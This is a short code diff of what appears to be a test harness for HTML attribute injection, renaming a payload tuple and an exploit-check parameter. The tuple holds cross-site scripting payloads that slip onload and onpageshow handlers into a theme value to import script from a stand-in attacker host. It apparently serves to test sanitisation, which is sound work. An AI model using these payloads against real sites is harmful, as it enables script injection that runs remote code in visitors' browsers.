@@ -30,7 +30,7 @@ def works(code):
 
 
 SCRIPT = "import(`//attacker.example/v.js`)"
-ATTACKS = (
+FORMS = (
     f"dark onload={SCRIPT}",
     f"dark\tonload={SCRIPT}",
     f"dark onpageshow={SCRIPT}",
@@ -39,5 +39,5 @@ ATTACKS = (
 )
 
 
-def exploit(code, vary=None, payloads=ATTACKS):
+def exploit(code, vary=None, payloads=FORMS):
     return any(SCRIPT in scripts_of(open_page(code, theme=theme)) for theme in payloads)
